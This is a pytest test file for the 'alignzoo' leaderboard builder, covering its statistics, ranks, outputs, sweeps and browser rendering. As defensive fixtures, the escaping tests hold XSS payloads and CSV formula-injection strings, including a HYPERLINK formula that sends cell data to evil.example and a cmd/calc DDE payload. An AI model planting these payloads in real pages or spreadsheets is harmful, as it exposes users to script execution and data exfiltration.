"""The leaderboard: CIs and ranks against an independent computation (scipy), counts, escaping, sweeps that end in
a board (one job failing, joblib in parallel), 1,000 records in seconds, and the page in a real browser."""

import csv
import datetime as dt
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from alignzoo.board import build_board
from alignzoo.testing import TINY_OVERRIDES, make_preference_dataset

XSS = "<script>alert(1)</script>"


def independent_ci(values):
    """The mean and its 95% Student-t interval (the board's interval below 10 seeds), by scipy."""
    scipy_stats = pytest.importorskip("scipy.stats")
    x = np.asarray(values, dtype=float)
    lo, hi = scipy_stats.t.interval(0.95, len(x) - 1, loc=x.mean(), scale=scipy_stats.sem(x))
    return x.mean(), lo, hi


def record(run_id, algo="dpo", seed=0, gold=0.1, kl=1.0, beta=0.1, status="ok", error=None, **extra):
    metrics = {"eval/gold_reward": gold, "eval/kl": kl, "eval/win_rate": 0.5, "train/loss": 0.69} if status == "ok" \
        else {}
    config = {"seed": seed, "algo": {"name": algo, "beta": beta}, "task": {"name": extra.get("task", "sentiment")},
              "logger": {"jsonl": {"name": "jsonl"}}}
    history = [{"step": 0, "eval/gold_reward": 0.0, "eval/kl": 0.0}, {"step": 10, "eval/gold_reward": gold,
                                                                      "eval/kl": kl}] if status == "ok" else []
    rec = {"run_id": run_id, "status": status, "algo": algo, "task": "sentiment", "model": "tiny", "budget": "quick",
           "seed": seed, "config": config, "overrides": [f"algo={algo}", f"algo.beta={beta}", f"seed={seed}"],
           "metrics": metrics, "history": history, "error": error, "wall_time_s": 10.0 + seed, "tokens": 1000,
           "started_at": "2026-01-01T00:00:00+00:00", "schema_version": 1}
    rec.update(extra)
    return rec


def write_records(root, records):
    for i, rec in enumerate(records):
        d = Path(root) / f"{i:04d}"
        d.mkdir(parents=True, exist_ok=True)
        (d / "record.json").write_text(json.dumps(rec))
    return Path(root)


def run_cli(args, cwd, timeout=300):
    env = {**os.environ, "ALIGNZOO_PLUGINS": "", "WANDB_MODE": "disabled"}
    return subprocess.run([sys.executable, "-m", "alignzoo", *args], capture_output=True, text=True, cwd=cwd,
                          env=env, timeout=timeout)


# -- statistics, grouping, counts -------------------------------------------------------------------------------

GOLD_A = [0.31, 0.22, 0.27]  # dpo beta=0.1, seeds 0..2 (seed 3 failed)
GOLD_B = [0.05, 0.12]  # dpo beta=0.3


@pytest.fixture(scope="module")
def small_board(tmp_path_factory):
    root = tmp_path_factory.mktemp("records")
    recs = [record(f"a{s}", seed=s, gold=g, kl=2.0 + s) for s, g in enumerate(GOLD_A)]
    recs.append(record("a3", seed=3, status="failed",
                       error={"type": "RuntimeError", "message": "loss is NaN at step 7", "traceback": "..."}))
    recs += [record(f"b{s}", seed=s, gold=g, beta=0.3, kl=0.5) for s, g in enumerate(GOLD_B)]
    recs.append(record("a0-earlier", seed=0, gold=9.0, started_at="2025-01-01T00:00:00+00:00"))  # a re-run seed
    recs.append(record("sft0", algo="sft", seed=0, gold=-0.05, kl=0.0, config={"seed": 0, "algo": {"name": "sft"}},
                       overrides=["algo=sft", "seed=0"]))
    write_records(root, recs)
    out = tmp_path_factory.mktemp("board")
    board = build_board([root], out)
    return board, json.loads((out / "leaderboard.json").read_text())


def test_groups_ci_n_and_failed_counts(small_board):
    _, data = small_board
    groups = {g["label"]: g for g in data["groups"]}
    assert set(groups) == {"dpo (beta=0.1)", "dpo (beta=0.3)", "sft"}
    a, b, sft = groups["dpo (beta=0.1)"], groups["dpo (beta=0.3)"], groups["sft"]
    assert (a["n"], a["failed"], a["seeds"]) == (3, 1, [0, 1, 2, 3])
    assert (b["n"], b["failed"], sft["n"], sft["failed"]) == (2, 0, 1, 0)
    assert (data["n_records"], data["n_ok"], data["n_failed"]) == (8, 7, 1)
    assert a["repeated_runs_not_counted"] == ["a0-earlier"]  # seed 0 ran twice: the latest run counts, once
    assert any("seed(s) 0 ran more than once" in w for w in data["warnings"])
    for group, values in ((a, GOLD_A), (b, GOLD_B)):
        stat = group["metrics"]["eval/gold_reward"]
        assert stat["n"] == len(values)
        assert (stat["mean"], stat["lo"], stat["hi"]) == pytest.approx(independent_ci(values), abs=1e-12)
    assert a["metrics"]["eval/kl"]["mean"] == pytest.approx(3.0) and a["metrics"]["cost/wall_time_s"]["n"] == 3
    assert a["metrics"]["eval/gold_reward"]["median"] == pytest.approx(0.27)
    assert a["metrics"]["eval/gold_reward"]["method"] == "t" and not a["metrics"]["eval/gold_reward"]["clipped"]
    s = sft["metrics"]["eval/gold_reward"]
    assert (s["mean"], s["lo"], s["hi"], s["n"], s["method"]) == (-0.05, None, None, 1, None)  # one seed: no interval
    kl = a["metrics"]["eval/kl"]  # KL 2, 3, 4 nats: a t-interval inside [0, inf), not clipped
    assert (kl["lo"], kl["hi"]) == pytest.approx(independent_ci([2.0, 3.0, 4.0])[1:], abs=1e-12)
    assert a["errors"] == [{"run_id": "a3", "algo": "dpo", "seed": 3, "type": "RuntimeError",
                            "message": "loss is NaN at step 7", "user_error": None, "source": a["errors"][0]["source"]}]
    assert [f["run_id"] for f in data["failed_runs"]] == ["a3"]
    curve = a["curves"]["eval/gold_reward"]
    assert [p["step"] for p in curve] == [0, 10] and curve[1]["mean"] == pytest.approx(np.mean(GOLD_A))


def test_ranks_come_from_holm_corrected_welch_tests(small_board):
    """One testable pair (the SFT row has one seed): Welch p = 0.049 by scipy, so beta=0.1 is significantly better
    than beta=0.3; the one-seed SFT row is never tested, and ranks below the rows with higher means."""
    scipy_stats = pytest.importorskip("scipy.stats")
    _, data = small_board
    groups = {g["label"]: g for g in data["groups"]}
    a, b, sft = groups["dpo (beta=0.1)"], groups["dpo (beta=0.3)"], groups["sft"]
    p = scipy_stats.ttest_ind(GOLD_A, GOLD_B, equal_var=False).pvalue
    assert p == pytest.approx(0.0491, abs=1e-4)  # < 0.05 and the only test of the family: Holm leaves it
    assert {k: g["rank"] for k, g in groups.items()} == {"dpo (beta=0.1)": 1, "dpo (beta=0.3)": 2, "sft": 2}
    assert (a["significantly_better"], b["significantly_better"], sft["significantly_better"]) == ([], [a["id"]], [])
    assert [g["label"] for g in data["groups"]] == ["dpo (beta=0.1)", "dpo (beta=0.3)", "sft"]
    above = b["vs_above"]  # seeds 0, 1 against 0, 1, 2: not the same seeds, so Welch
    assert (above["ref"], above["test"], above["n"]) == (a["id"], "Welch t", 2)
    assert (above["diff"], above["p"], above["p_holm"]) == pytest.approx((np.mean(GOLD_B) - np.mean(GOLD_A), p, p))
    assert above["significant"] and a["vs_above"] is None and sft["vs_above"] is None  # n = 1: no test
    assert sft["reference"] and a["vs_sft"] is None and sft["collapse"] is None  # one SFT seed: no sd, no threshold
    assert "Holm" in data["rank"] and "Welch" in data["rank"] and "BCa" in data["ci"]["method"]


def test_files_and_reproduce_commands(small_board):
    board, data = small_board
    out = board.out
    for name in ("leaderboard.json", "runs.csv", "LEADERBOARD.md", "index.html", "frontier.png", "frontier.svg",
                 "compute.png", "compute.svg", "curves.png", "curves.svg"):
        assert (out / name).stat().st_size > 0, name
    rows = list(csv.DictReader((out / "runs.csv").open()))
    assert len(rows) == 8 and sorted(r["status"] for r in rows).count("failed") == 1
    assert [r["run_id"] for r in rows if r["counted"] == "0" and r["status"] == "ok"] == ["a0-earlier"]
    failed = next(r for r in rows if r["status"] == "failed")
    assert failed["error_message"] == "loss is NaN at step 7" and failed["command"].endswith("seed=3")
    a = next(g for g in data["groups"] if g["label"] == "dpo (beta=0.1)")
    assert a["command"] == "alignzoo run -m algo=dpo algo.beta=0.1 seed=0,1,2,3"
    assert a["config"]["seed"] == 0 and a["config"]["algo"] == {"name": "dpo", "beta": 0.1}
    config = (out / a["config_file"]).read_text()
    assert "beta: 0.1" in config and "# reproduce: alignzoo run -m algo=dpo" in config
    html = (out / "index.html").read_text()
    assert f'href="{a["config_file"]}"' in html and a["command"] in html
    assert html.count('<img class="plot" src="data:image/png;base64,') == 3  # self-contained
    assert "http://" not in html and "https://" not in html  # nothing fetched from the network
    md = (out / "LEADERBOARD.md").read_text()
    assert "| 1 | dpo (beta=0.1) ★ | 3 |" in md and "## Failed runs" in md and "loss is NaN at step 7" in md


def test_record_strings_are_escaped_in_html_and_markdown(tmp_path):
    nasty = {"algo": XSS, "task": "t|a*s_k", "model": '"><img src=x onerror=alert(2)>'}
    recs = [record("x0", seed=0, gold=0.2, **nasty), record("x1", seed=1, gold=0.3, **nasty),
            record("x2", seed=2, status="failed", error={"type": "ValueError", "message": "<b>bold</b> | `tick`"},
                   **nasty)]
    recs[0]["overrides"] = [f"algo={XSS}", "+x='\"><svg onload=alert(3)>"]
    board = build_board([write_records(tmp_path / "runs", recs)], tmp_path / "board")
    html = (board.out / "index.html").read_text()
    for raw in (XSS, "<img src=x", "<svg onload", "<b>bold</b>"):
        assert raw not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;b&gt;bold&lt;/b&gt;" in html
    assert len(re.findall(r"<script[ >]", html)) == 1  # only the page's own sorting script
    md = (board.out / "LEADERBOARD.md").read_text()
    prose = re.sub(r"(`+).*?\1", "", md)  # outside code spans (whose content Markdown shows literally)
    assert "<script" not in prose and "<img" not in prose and "<b>" not in prose and "<svg" not in prose
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(md)  # raw HTML allowed: the worst case
    assert not re.search(r"<(script|svg|b)[ >]", rendered)
    assert re.findall(r"<img [^>]*>", rendered) == ['<img src="frontier.png" alt="headline vs KL" />']  # ours only
    assert rendered.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 3  # table, reproduce list, failed runs
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and r"t\|a\*s\_k" in md
    header = next(line for line in md.splitlines() if line.startswith("| Rank"))
    unescaped_pipes = lambda line: len(re.findall(r"(?<!\\)\|", line))  # noqa: E731
    for line in md.splitlines():
        if line.startswith("| ") and "Rank" not in line and "Run |" not in line and "---" not in line:
            if "ValueError" in line:
                assert unescaped_pipes(line) == 5  # the failed-runs table: 4 columns
            else:
                assert unescaped_pipes(line) == unescaped_pipes(header)
    configs = list((board.out / "configs").iterdir())
    assert configs and all(p.parent == board.out / "configs" and re.fullmatch(r"[A-Za-z0-9_.-]+\.yaml", p.name)
                           for p in configs)


def test_board_cli_errors(tmp_path, capsys):
    from alignzoo.cli import main

    for args, needle in ((["build", str(tmp_path / "nope"), "--out", str(tmp_path / "b")], "not found"),
                         (["build", str(tmp_path), "--out", str(tmp_path / "b")], "no record.json found under")):
        with pytest.raises(SystemExit) as exc:
            main(["board", *args])
        assert exc.value.code == 2
        err = capsys.readouterr().err
        assert needle in err and "Traceback" not in err
    with pytest.raises(SystemExit) as exc:
        main(["board", "build", str(tmp_path)])
    assert exc.value.code == 2 and "--out" in capsys.readouterr().err


def test_wandb_mirror_is_optional_and_never_fatal(small_board, monkeypatch, capsys):
    import types

    from alignzoo.board.callback import log_to_wandb
    from omegaconf import OmegaConf

    board, _ = small_board
    logged = {}

    class Run:
        def log(self, payload):
            logged.update(payload)

        def finish(self):
            logged["finished"] = True

    fake = types.SimpleNamespace(init=lambda **kw: logged.update(init=kw) or Run(),
                                 Table=lambda columns, data: {"columns": columns, "data": data},
                                 Image=lambda path: path)
    monkeypatch.setitem(sys.modules, "wandb", fake)
    monkeypatch.delenv("WANDB_MODE", raising=False)
    cfg = OmegaConf.create({"logger": {"wandb": {"name": "wandb", "project": "p", "mode": None}}})
    assert log_to_wandb(cfg, board, group="sweep-1")
    assert logged["init"]["mode"] == "offline" and logged["init"]["group"] == "sweep-1" and logged["finished"]
    table = logged["leaderboard"]
    assert len(table["data"]) == 3 and table["data"][0][1] == "dpo (beta=0.1)" and "Gold reward" in table["columns"]
    assert not log_to_wandb(OmegaConf.create({"logger": {"jsonl": {}}}), board.__class__(
        out=board.out, groups=board.groups, records=[]), group="g")  # no wandb logger: nothing logged
    fake.init = lambda **kw: (_ for _ in ()).throw(RuntimeError("no network"))
    assert not log_to_wandb(cfg, board, group="g")  # a W&B failure is a warning
    assert "could not log the leaderboard to W&B: RuntimeError: no network" in capsys.readouterr().err


def test_launcher_and_experiment_presets_compose():
    from hydra import compose, initialize_config_module
    from hydra.core.global_hydra import GlobalHydra

    from alignzoo import plugins
    from alignzoo.config import store_schema

    names = plugins.load().registries["algo"].names()
    store_schema()
    GlobalHydra.instance().clear()
    with initialize_config_module(config_module="alignzoo.conf", version_base="1.3"):
        cfg = compose("config", overrides=["launcher=joblib"], return_hydra_config=True)
        assert "Joblib" in cfg.hydra.launcher._target_ and cfg.hydra.launcher.n_jobs == 2
        assert cfg.hydra.callbacks.board._target_ == "alignzoo.board.callback.BoardCallback"
        zoo = compose("config", overrides=["+experiment=zoo"], return_hydra_config=True)
        zoo_algos = zoo.hydra.sweeper.params.algo.split(",")
        assert zoo.budget.name == "standard" and zoo.hydra.sweeper.params.seed == "0,1,2"
        assert "sft" in zoo_algos and set(zoo_algos) <= set(names)  # the reference row, and only known names
        frontier = compose("config", overrides=["+experiment=frontier", "budget=quick"], return_hydra_config=True)
        assert frontier.budget.name == "quick"  # the command line wins over the experiment's budget
        assert len(frontier.hydra.sweeper.params["algo.beta"].split(",")) >= 3
        assert set(frontier.hydra.sweeper.params.algo.split(",")) <= set(names)
    GlobalHydra.instance().clear()


# -- sweeps end in a board --------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def data(tmp_path_factory):
    return make_preference_dataset(tmp_path_factory.mktemp("board-data") / "prefs", 120)


@pytest.fixture(scope="module")
def joblib_sweep(tmp_path_factory, data):
    """One sweep serves two acceptance checks (each sweep costs seconds of interpreter and worker start-up):
    launcher=joblib with two workers; jobs #0 and #1 run in parallel, #2 (algo.beta=-1) fails."""
    cwd = tmp_path_factory.mktemp("sweep")
    out = run_cli(["run", "-m", "launcher=joblib", *TINY_OVERRIDES, "task=hf_preferences", f"task.path={data}",
                   "algo.beta=0.1,0.2,-1"], cwd)
    assert out.returncode == 0, out.stderr
    (sweep,) = Path(cwd, "outputs", "sweeps").iterdir()
    return out, sweep


def test_sweep_with_a_failing_job_ends_with_a_board(joblib_sweep):
    out, sweep = joblib_sweep
    board = json.loads((sweep / "board" / "leaderboard.json").read_text())
    assert (board["n_records"], board["n_ok"], board["n_failed"]) == (3, 2, 1)
    (failure,) = board["failed_runs"]
    assert failure["type"] == "ConfigError" and "algo.beta must be > 0 (got -1.0)" in failure["message"]
    failed_group = next(g for g in board["groups"] if g["failed"])
    assert failed_group["label"] == "dpo (beta=-1)" and failed_group["n"] == 0 and failed_group["rank"] is None
    html = (sweep / "board" / "index.html").read_text()
    assert "Failed runs (1)" in html and "algo.beta must be &gt; 0 (got -1.0)" in html
    assert "algo.beta must be &gt; 0 (got -1.0)" in (sweep / "board" / "LEADERBOARD.md").read_text()
    assert "alignzoo: board: 3 runs (2 ok, 1 failed) in 3 groups" in out.stderr


def test_joblib_launcher_runs_two_jobs_in_parallel(joblib_sweep):
    _, sweep = joblib_sweep
    records = [json.loads(p.read_text()) for p in sorted(sweep.glob("*/record.json"))]
    ok = [r for r in records if r["status"] == "ok"]
    assert len(ok) == 2 and len({r["job_dir"] for r in ok}) == 2
    spans = [(dt.datetime.fromisoformat(r["started_at"]).timestamp(),
              dt.datetime.fromisoformat(r["started_at"]).timestamp() + r["wall_time_s"]) for r in ok]
    overlap = min(e for _, e in spans) - max(s for s, _ in spans)
    print(f"joblib: job intervals {spans}, overlap {overlap:.2f}s")
    assert overlap > 0, f"the two jobs ran one after the other: {spans}"
    assert "launcher=joblib" in ok[0]["overrides"]


# -- 1,000 records, and the page in a browser -------------------------------------------------------------------

def synthetic_records(n=1000):
    """64 presets (8 algorithms, one named like an XSS payload, x 4 betas x 2 budgets) x ~16 seeds; 2% failed."""
    rng = np.random.default_rng(0)
    algos = ["dpo", "ipo", "cdpo", "ppo", "a2c", "best_of_n", "ilql", XSS]
    presets = [(a, b, budget) for a in algos for b in (0.03, 0.1, 0.3, 1.0) for budget in ("quick", "standard")]
    out = []
    for i in range(n):
        algo, beta, budget = presets[i % len(presets)]
        seed, failed = i // len(presets), i % 50 == 7
        rec = record(f"{algo}-{i}", algo=algo, seed=seed, beta=beta, budget=budget,
                     gold=float(rng.normal(0.2 + 0.1 * beta, 0.05)), kl=float(rng.uniform(1, 20)),
                     status="failed" if failed else "ok",
                     error={"type": "RuntimeError", "message": f"boom {i}"} if failed else None)
        rec["config"]["budget"] = {"name": budget}
        if not failed:
            rec["metrics"].update({f"eval/m{j}": float(rng.random()) for j in range(12)})
            rec["history"] = [{"step": s, "eval/gold_reward": s / 100, "eval/kl": s / 10} for s in (0, 25, 50, 75, 100)]
        out.append(rec)
    return out


@pytest.fixture(scope="module")
def big_board(tmp_path_factory):
    runs = write_records(tmp_path_factory.mktemp("runs1000"), synthetic_records(1000))
    out = tmp_path_factory.mktemp("board1000")
    t0 = time.perf_counter()
    res = run_cli(["board", "build", str(runs), "--out", str(out)], out)
    return res, time.perf_counter() - t0, out


def test_board_build_over_1000_records_is_fast(big_board):
    res, seconds, out = big_board
    assert res.returncode == 0, res.stderr
    print(f"alignzoo board build over 1,000 records: {seconds:.2f}s (CLI, including interpreter start)")
    data = json.loads((out / "leaderboard.json").read_text())
    assert data["n_records"] == 1000 and data["n_failed"] == 20
    assert len(data["groups"]) == 64 and sum(g["n"] + g["failed"] for g in data["groups"]) == 1000
    assert max(g["metrics"]["eval/gold_reward"]["n"] for g in data["groups"]) == 16
    assert seconds < 20, f"took {seconds:.1f}s (the target is under 10 s on the project machine)"


CHROMIUM = "/usr/bin/chromium"


@pytest.mark.skipif(not Path(CHROMIUM).exists(),
                    reason="headless Chromium is not installed (apt-get install -y chromium chromium-driver)")
def test_page_renders_in_headless_chromium(big_board):
    from alignzoo.board.browser import check_board

    res, _, out = big_board
    assert res.returncode == 0, res.stderr
    check = check_board(out, chromium=CHROMIUM)
    print(f"chromium: {check.visible_rows}/{check.table_rows} rows, {check.visible_plots}/{check.plots} plots, "
          f"ink {check.ink:.3f}, {check.colors} colours, screenshot {check.screenshot}")
    assert check.ok, check.problems
    assert check.table_rows == len(json.loads((out / "leaderboard.json").read_text())["groups"])
    assert check.plots == 3 and check.screenshot.stat().st_size > 10_000


def test_zoo_sweep_lists_every_built_in_optimizer():
    """The published leaderboard's zoo sweep covers the whole built-in zoo (a new built-in optimizer must join it)."""
    import yaml

    zoo = yaml.safe_load((Path(__file__).parents[1] / "alignzoo/conf/experiment/zoo.yaml").read_text())
    listed = zoo["hydra"]["sweeper"]["params"]["algo"].split(",")
    out = subprocess.run([sys.executable, "-m", "alignzoo", "plugins", "--json"], capture_output=True, text=True,
                         env={**os.environ, "ALIGNZOO_PLUGINS": ""}, check=True)
    assert sorted(listed) == json.loads(out.stdout)["components"]["algo"]


def test_rl_frontier_sweep_composes_and_sweeps_the_kl_coefficient():
    import yaml

    from alignzoo.testing import compose_config

    spec = yaml.safe_load((Path(__file__).parents[1] / "alignzoo/conf/experiment/frontier_rl.yaml").read_text())
    params = spec["hydra"]["sweeper"]["params"]
    cfg = compose_config(["+experiment=frontier_rl", f"algo={params['algo'].split(',')[0]}"])
    assert cfg.budget.name == "standard" and "kl_coef" in cfg.algo
    assert len(params["algo.kl_coef"].split(",")) >= 3


# -- safe exports: CSV cells, escaping of every field -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
            "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _number_literal(cell):
    try:
        return np.isfinite(float(cell))
    except ValueError:
        return False


def test_runs_csv_holds_no_formula_from_record_content(tmp_path, monkeypatch):
    """A formula in any string of a record (and in metric names, config keys and values, the job folder's name)
    reaches runs.csv as text: every such cell starts with the spreadsheets' text marker; numbers stay numbers."""
    recs = []
    for i, f in enumerate(FORMULAS):
        failed = i == len(FORMULAS) - 1
        rec = record(f"{f}-run", algo=f, seed=i, gold=-0.057 * (i + 1), status="failed" if failed else "ok",
                     error={"type": f, "message": f} if failed else None, task=f, model=f, budget=f, reward=f,
                     git_sha=f, started_at=f, job_dir=f, notes=[f], group=f)
        rec["overrides"] = [f, f"algo={f}"]
        rec["config"][f] = {f: f}
        rec["metrics"][f] = 1.0 * i
        rec["metrics"]["status"] = 2.0  # a metric named like a column gets its own
        recs.append(rec)
    monkeypatch.chdir(tmp_path)  # the source column is then "=cmd/0000": a folder name is record content too
    build_board([write_records(tmp_path / "=cmd", recs)], tmp_path / "board", figures=False)
    with open(tmp_path / "board" / "runs.csv", newline="") as f:
        header, *rows = list(csv.reader(f))
    cells = header + [c for row in rows for c in row]
    assert len(rows) == len(FORMULAS)
    assert [c for c in cells if c.startswith(TRIGGERS) and not _number_literal(c)] == []
    assert {"'" + f for f in FORMULAS} <= set(header) and "metric:status" in header
    by_name = [dict(zip(header, row)) for row in rows]
    for row, f in zip(sorted(by_name, key=lambda r: r["seed"]), FORMULAS):
        for column in ("run_id", "algo", "task", "model", "budget", "reward", "git_sha", "started_at"):
            assert row[column] == "'" + (f + "-run" if column == "run_id" else f), column
        assert row["preset"].startswith("'" + f) and row["source"].startswith("'=cmd") and row["status"] != "2.0"
    failed = next(r for r in by_name if r["status"] == "failed")
    assert (failed["error_type"], failed["error_message"]) == ("'" + FORMULAS[-1], "'=1+1")  # on one line
    golds = sorted(float(r["eval/gold_reward"]) for r in by_name if r["eval/gold_reward"])
    assert golds == pytest.approx([-0.057 * i for i in range(5, 0, -1)])  # negative numbers, as numbers


def test_csv_cells_are_neutral_and_numbers_stay_numbers():
    from alignzoo.board.csvsafe import neutral_cell, write_csv

    cases = {"=1+1": "'=1+1", "+x": "'+x", "-x": "'-x", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "\0x": "'\0x",
             "a=1": "a=1", "'=1": "'=1", "": "", None: "", -0.057: -0.057, 3: 3, float("nan"): "nan",
             float("-inf"): "'-inf", True: "True", "-1": "'-1"}
    for value, cell in cases.items():
        assert neutral_cell(value) == cell, value
    tsv = write_csv(["=h", "n"], [["-x", -1.5], [None, 2]], delimiter="\t")
    assert tsv == "\"'=h\"\t\"n\"\n\"'-x\"\t-1.5\n\"\"\t2\n"


def test_every_csv_writer_goes_through_the_neutralizing_helper():
    root = Path(__file__).parents[1] / "alignzoo"
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|delimiter=\"\\t\"")
    found = [str(p.relative_to(root)) for p in root.rglob("*.py") if writers.search(p.read_text())]
    assert found == ["board/csvsafe.py"], f"write CSV/TSV with alignzoo.board.csvsafe.write_csv: {found}"


def test_config_keys_and_values_and_warnings_are_escaped(tmp_path):
    """Config keys and values reach the labels of the tables, a run folder's name reaches the warnings."""
    recs = [record("k0", seed=0), record("k1", seed=0, beta=0.3)]
    recs[0]["config"]["algo"]["<img src=x onerror=alert(4)>"] = "`|*_[x](javascript:alert(5))"
    runs = write_records(tmp_path / "runs", recs)
    bad = runs / "<svg onload=alert(6)>" / "record.json"
    bad.parent.mkdir()
    bad.write_text("{")
    board = build_board([runs], tmp_path / "board")
    assert any("alert(6)" in w and "is not valid JSON" in w for w in board.warnings)
    html = (board.out / "index.html").read_text()
    assert "<img src=x" not in html and "<svg onload" not in html
    assert "&lt;img src=x onerror=alert(4)&gt;" in html and "&lt;svg onload=alert(6)&gt;" in html
    md = (board.out / "LEADERBOARD.md").read_text()
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(md)
    assert "<a " not in rendered and re.findall(r"<img [^>]*>", rendered) == [
        '<img src="frontier.png" alt="headline vs KL" />']
    assert "&lt;img src=x onerror=alert(4)&gt;=" in rendered
    header = next(line for line in md.splitlines() if line.startswith("| Rank"))
    rows = [line for line in md.splitlines() if line.startswith("| ") and "img" in line]
    assert rows and all(len(re.findall(r"(?<!\\)\|", r)) == len(re.findall(r"\|", header)) for r in rows)


def test_fresh_board_appears_in_one_rename_with_its_manifest(tmp_path):
    import hashlib

    from alignzoo.board.publish import MANIFEST

    out = tmp_path / "a" / "b" / "board"
    build_board([write_records(tmp_path / "runs", [record("r0"), record("r1", seed=1)])], out)
    files = json.loads((out / MANIFEST).read_text())["files"]
    on_disk = sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file() and p.name != MANIFEST)
    assert sorted(files) == on_disk and len(on_disk) == 11  # 4 pages, 6 figures, 1 config
    assert all(hashlib.sha256((out / n).read_bytes()).hexdigest() == sha for n, sha in files.items())
    assert oct(out.stat().st_mode & 0o777) == "0o755" and oct((out / "runs.csv").stat().st_mode & 0o777) == "0o644"
    assert sorted(p.name for p in out.parent.iterdir()) == ["board"]  # no staging folder left beside it


def test_reproduce_command_leaves_out_the_seed_and_the_authors_cache_folder():
    from alignzoo.board.aggregate import reproduce_command

    runs = [{"status": "ok", "seed": s, "metrics": {}, "overrides": ["algo=grpo_rlvr", "+experiment=verifiable",
                                                                    "run.cache_dir=/tmp/mine", f"seed={s}"]}
            for s in (0, 1)]
    assert reproduce_command(runs) == "alignzoo run -m algo=grpo_rlvr +experiment=verifiable seed=0,1"
